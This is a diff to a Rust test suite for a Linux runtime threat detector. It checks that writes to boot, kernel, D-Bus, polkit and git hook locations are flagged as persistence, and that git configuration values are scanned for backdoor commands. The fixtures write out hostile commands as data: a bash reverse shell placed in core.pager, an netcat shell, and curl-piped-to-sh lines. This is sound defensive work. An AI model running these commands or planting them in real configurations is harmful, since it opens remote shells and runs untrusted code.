@@ -122,6 +122,7 @@ fn file_event(operation: &'static str, path: &str, f: impl FnOnce(&mut FileInfo)
         matched_by: vec!["prefix"],
         proc_mem_pid: None,
         sysctl_value: None,
+        git_config: None,
         written_by: None,
         truncated: false,
     };
@@ -2606,7 +2607,7 @@ fn every_persistence_location_is_in_the_sensitive_set_the_kernel_filters_with() 
         let probes = match &l.place {
             Place::Path(p) if p.ends_with('/') => vec![format!("{p}x")],
             Place::Path(p) => vec![p.clone()],
-            Place::Home(h) if h.contains('/') => {
+            Place::Home(h) if h.ends_with('/') => {
                 vec![format!("/root/{h}x"), format!("/home/ann/{h}x")]
             }
             Place::Home(h) => vec![format!("/srv/any/{h}")],
@@ -3717,4 +3718,331 @@ fn a_shell_started_by_a_program_whose_standard_streams_are_a_socket_is_a_reverse
         ])
         .is_empty()
     );
+}
+
+#[test]
+fn initramfs_kernel_hooks_networkd_local_dbus_and_polkit_authority_places() {
+    // PANIX's places that the Elastic pass left out: initramfs-tools' and dracut's
+    // configuration, hooks and scripts, the kernel's install hooks, networkd-dispatcher's
+    // packaged directory, local and session D-Bus places.
+    let sh = exec_by(
+        320,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[(200, "/usr/bin/bash")],
+    );
+    for (path, rule, kind) in [
+        (
+            "/etc/initramfs-tools/hooks/x",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        (
+            "/etc/initramfs-tools/scripts/init-premount/x",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        (
+            "/etc/initramfs-tools/modules",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        (
+            "/usr/share/initramfs-tools/scripts/init-bottom/x",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        ("/etc/dracut.conf", "behaviour-persistence-boot", "boot"),
+        (
+            "/etc/dracut.conf.d/99-x.conf",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        (
+            "/etc/kernel/postinst.d/zz-x",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        (
+            "/etc/kernel/install.d/99-x.install",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        (
+            "/usr/lib/kernel/install.d/99-x.install",
+            "behaviour-persistence-boot",
+            "boot",
+        ),
+        (
+            "/usr/lib/networkd-dispatcher/routable.d/50-x",
+            "behaviour-persistence-network-hook",
+            "network",
+        ),
+        (
+            "/usr/local/share/dbus-1/services/org.x.service",
+            "behaviour-persistence-dbus",
+            "dbus",
+        ),
+        (
+            "/usr/share/dbus-1/session.d/org.x.conf",
+            "behaviour-persistence-dbus",
+            "dbus",
+        ),
+    ] {
+        assert_eq!(
+            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
+            kind_of(rule, kind),
+            "{path}"
+        );
+    }
+    // Their neighbours are not.
+    for path in [
+        "/etc/initramfs-tools-old/hooks/x",
+        "/etc/dracut.conf.bak",
+        "/etc/kernel/cmdline",
+        "/etc/kernel-img.conf",
+        "/usr/lib/kernel/x",
+        "/usr/share/dbus-1/interfaces/org.x.xml",
+    ] {
+        assert!(
+            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]).is_empty(),
+            "{path}"
+        );
+    }
+    // An editor may change the initramfs configuration and dracut's; not drop a hook.
+    let by = |pid: u32, exe: &str, argv: &[&str], path: &str| {
+        persistence_kinds(&[
+            exec_by(pid, exe, argv, &[(200, "/usr/bin/bash")]),
+            write_by(pid, super::basename(argv[0]), path),
+        ])
+    };
+    for path in [
+        "/etc/initramfs-tools/modules",
+        "/etc/initramfs-tools/initramfs.conf",
+        "/etc/initramfs-tools/conf.d/resume",
+        "/etc/dracut.conf",
+        "/etc/dracut.conf.d/x.conf",
+    ] {
+        assert!(
+            by(340, "/usr/bin/vim.basic", &["vim", path], path).is_empty(),
+            "{path}"
+        );
+    }
+    assert_eq!(
+        by(
+            341,
+            "/usr/bin/vim.basic",
+            &["vim", "x"],
+            "/etc/initramfs-tools/hooks/x"
+        ),
+        kind_of("behaviour-persistence-boot", "boot")
+    );
+    // polkit's local authority configuration (`AdminIdentities=`) is its policy, as sudo's.
+    let found = run_all(&[
+        sh.clone(),
+        write_by(320, "sh", "/etc/polkit-1/localauthority.conf.d/60-x.conf"),
+    ]);
+    assert!(
+        found.iter().any(
+            |(t, r, _)| t == "PrivilegeEscalation:Runtime/SuspiciousCommand"
+                && r == "behaviour-sudoers-modified"
+        ),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn git_hooks_are_persistence_by_their_place_and_writer() {
+    let sh = exec_by(
+        320,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[(200, "/usr/bin/bash")],
+    );
+    // A hook written, moved into place or made executable by a shell, in a work tree's
+    // repository, a bare repository and a submodule's.
+    for path in [
+        "/home/ann/src/app/.git/hooks/pre-commit",
+        "/srv/git/app.git/hooks/post-receive",
+        "/srv/git/app.git/hooks/update",
+        "/root/app/.git/modules/lib/hooks/post-checkout",
+        "/root/app/.git/hooks/fsmonitor-watchman",
+    ] {
+        assert_eq!(
+            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
+            kind_of("behaviour-persistence-git-hook", "git"),
+            "{path}"
+        );
+    }
+    let chmod = file_event("chmod", "/root/app/.git/hooks/pre-push", |f| {
+        f.process = proc_ref(320, "chmod");
+        f.ret = 0;
+    });
+    assert_eq!(
+        persistence_kinds(&[sh.clone(), chmod]),
+        kind_of("behaviour-persistence-git-hook", "git")
+    );
+    // A file of a hook's name elsewhere raises nothing at all (no SensitiveFileModified
+    // either): the name is in the kernel's set for this check alone.
+    for path in [
+        "/usr/local/bin/update",
+        "/root/app/scripts/pre-commit",
+        "/root/app/.git/hooks-old/pre-commit",
+        "/root/app/.git/myhooks/pre-commit",
+        "/var/lib/x/post-update",
+    ] {
+        let found = run_all(&[sh.clone(), write_by(320, "sh", path)]);
+        assert!(found.is_empty(), "{path}: {found:?}");
+    }
+    // git itself (a repository's templates at init or clone), an editor, and a package
+    // manager raise nothing.
+    let by = |pid: u32, exe: &str, argv: &[&str], path: &str| {
+        run_all(&[
+            exec_by(pid, exe, argv, &[(200, "/usr/bin/bash")]),
+            write_by(pid, super::basename(argv[0]), path),
+        ])
+    };
+    for (exe, argv) in [
+        ("/usr/bin/git", &["git", "init"][..]),
+        ("/usr/local/bin/git", &["git", "clone", "x"][..]),
+        ("/usr/bin/vim.basic", &["vim", ".git/hooks/pre-commit"][..]),
+        ("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"][..]),
+    ] {
+        let found = by(350, exe, argv, "/root/app/.git/hooks/pre-commit");
+        assert!(found.is_empty(), "{argv:?}: {found:?}");
+    }
+    // A python program (not git) writing one does.
+    assert_eq!(
+        persistence_kinds(&[
+            exec_by(
+                351,
+                "/usr/bin/python3.11",
+                &["python3", "/tmp/x.py"],
+                &[(200, "/usr/bin/bash")]
+            ),
+            write_by(351, "python3", "/root/app/.git/hooks/post-merge"),
+        ]),
+        kind_of("behaviour-persistence-git-hook", "git")
+    );
+}
+
+#[test]
+fn git_settings_that_run_a_command_are_parsed_as_git_reads_them() {
+    use super::technique::git_command_settings as settings;
+    let text = "[user]\n\tname = Ann\n\tpager = not-core\n[core]\n\tPager = \"less -FRX\"\n\
+                # core.pager = commented\n[core \"sub\"]\n\tpager = sub\n[CORE] sshCommand = ssh -i k\n\
+                [core]\n\tfsmonitor=true\n";
+    assert_eq!(
+        settings(text),
+        vec![
+            ("core.pager", "less -FRX".to_owned()),
+            ("core.sshcommand", "ssh -i k".to_owned()),
+            ("core.fsmonitor", "true".to_owned()),
+        ]
+    );
+    use super::technique::git_command_oddity as odd;
+    // What people set.
+    for value in [
+        "less -FRX",
+        "delta",
+        "diff-so-fancy | less --tabs=4 -RFX",
+        "ssh -i ~/.ssh/deploy -o IdentitiesOnly=yes",
+        "true",
+        ".git/hooks/fsmonitor-watchman",
+        "cat",
+    ] {
+        assert_eq!(odd(value), None, "{value}");
+    }
+    // What a backdoor sets (PANIX's pager first).
+    for value in [
+        "nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' > /dev/null 2>&1 & ${PAGER:-less}",
+        "/tmp/.x; less",
+        "less $(curl -s http://127.0.0.1/x)",
+        "sh -c 'nc 127.0.0.1 4444 -e /bin/sh'",
+        "/dev/shm/x",
+        "curl -s http://127.0.0.1/x | sh",
+    ] {
+        assert!(odd(value).is_some(), "{value}");
+    }
+}
+
+#[test]
+fn a_git_configuration_written_with_a_backdoor_command_is_persistence() {
+    let sh = exec_by(
+        320,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[(200, "/usr/bin/bash")],
+    );
+    let git = exec_by(
+        321,
+        "/usr/local/bin/git",
+        &["git", "config", "--global", "user.name", "Ann"],
+        &[(200, "/usr/bin/bash")],
+    );
+    let backdoor = "[user]\n\tname = Ann\n[core]\n        pager = nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' > /dev/null 2>&1 & ${PAGER:-less}\n";
+    let plain =
+        "[user]\n\tname = Ann\n\temail = ann@example.invalid\n[core]\n\tpager = less -FRX\n";
+    let written = |pid: u32, comm: &str, path: &str, text: &str| {
+        file_event("openWrite", path, |f| {
+            f.process = proc_ref(pid, comm);
+            f.matched_by = vec!["name"];
+            f.git_config = Some(text.to_owned());
+        })
+    };
+    // `git config` renames its lock file into place.
+    let renamed = |pid: u32, path: &str, text: &str| {
+        file_event("rename", &format!("{path}.lock"), |f| {
+            f.process = proc_ref(pid, "git");
+            f.path2 = Some(path.into());
+            f.resolved_path2 = Some(PathBuf::from(path));
+            f.ret = 0;
+            f.git_config = Some(text.to_owned());
+        })
+    };
+    for (events, what) in [
+        (
+            vec![sh.clone(), written(320, "sh", "/root/.gitconfig", backdoor)],
+            "appended by a shell",
+        ),
+        (
+            vec![git.clone(), renamed(321, "/home/ann/.gitconfig", backdoor)],
+            "set with git config",
+        ),
+        (
+            vec![sh.clone(), written(320, "sh", "/etc/gitconfig", backdoor)],
+            "the system's",
+        ),
+    ] {
+        let found = run_all(&events);
+        assert_eq!(
+            found,
+            vec![(
+                "Persistence:Runtime/SuspiciousCommand".to_owned(),
+                "behaviour-persistence-git-config".to_owned(),
+                SeverityLabel::Medium
+            )],
+            "{what}"
+        );
+    }
+    // `git config --global user.name`, a plain pager, a shell writing a person's settings, a
+    // file of that name that is not git's, and a package manager: nothing at all (no
+    // SensitiveFileModified either).
+    for events in [
+        vec![git.clone(), renamed(321, "/home/ann/.gitconfig", plain)],
+        vec![sh.clone(), written(320, "sh", "/root/.gitconfig", plain)],
+        vec![sh.clone(), written(320, "sh", "/etc/gitconfig", "")],
+        vec![
+            exec_by(
+                322,
+                "/usr/bin/dpkg",
+                &["dpkg", "-i", "x.deb"],
+                &[(1, "/usr/lib/systemd/systemd")],
+            ),
+            written(322, "dpkg", "/etc/gitconfig", backdoor),
+        ],
+    ] {
+        let found = run_all(&events);
+        assert!(found.is_empty(), "{found:?}");
+    }
 }
